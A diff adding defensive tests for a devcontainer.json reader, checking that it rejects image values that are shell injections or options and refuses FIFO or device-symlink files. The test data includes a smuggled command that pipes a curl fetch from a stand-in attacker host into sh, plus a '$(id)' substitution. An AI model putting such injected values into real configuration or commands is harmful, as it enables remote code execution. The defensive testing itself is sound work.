@@ -1,3 +1,4 @@
+import { spawnSync } from 'node:child_process';
 import fs from 'node:fs';
 import path from 'node:path';
 import fc from 'fast-check';
@@ -82,5 +83,32 @@ describe('readDevcontainer', () => {
         expect.objectContaining({ code: 'SANDBOX_FAILED', message: expect.stringContaining(words) }),
       );
     }
+  });
+});
+
+describe('a hostile devcontainer.json', () => {
+  it('refuses an "image" that is not an image reference (an option, a shell line), so no `docker pull …` suggestion carries it', () => {
+    for (const image of ['--privileged', 'x; curl https://evil.example | sh', 'ubuntu $(id)', 'UPPER/case']) {
+      const root = tempDir();
+      fs.writeFileSync(path.join(root, '.devcontainer.json'), JSON.stringify({ image }));
+      expect(() => readDevcontainer(root), image).toThrow(/"image" is not an image reference/);
+    }
+    const root = tempDir();
+    fs.writeFileSync(
+      path.join(root, '.devcontainer.json'),
+      JSON.stringify({ image: 'mcr.microsoft.com/devcontainers/typescript-node:1-20-bullseye' }),
+    );
+    expect(readDevcontainer(root)?.image).toBe('mcr.microsoft.com/devcontainers/typescript-node:1-20-bullseye');
+  });
+
+  it('refuses a devcontainer.json that is a FIFO or a link to a device without reading it (a read would never end)', () => {
+    const root = tempDir();
+    fs.symlinkSync('/dev/zero', path.join(root, '.devcontainer.json'));
+    expect(() => readDevcontainer(root)).toThrow(/leads out of the workspace root/);
+    const other = tempDir();
+    fs.mkdirSync(path.join(other, '.devcontainer'));
+    const made = spawnSync('mkfifo', [path.join(other, '.devcontainer/devcontainer.json')]);
+    expect(made.status).toBe(0);
+    expect(() => readDevcontainer(other)).toThrow(/is not a regular file/);
   });
 });
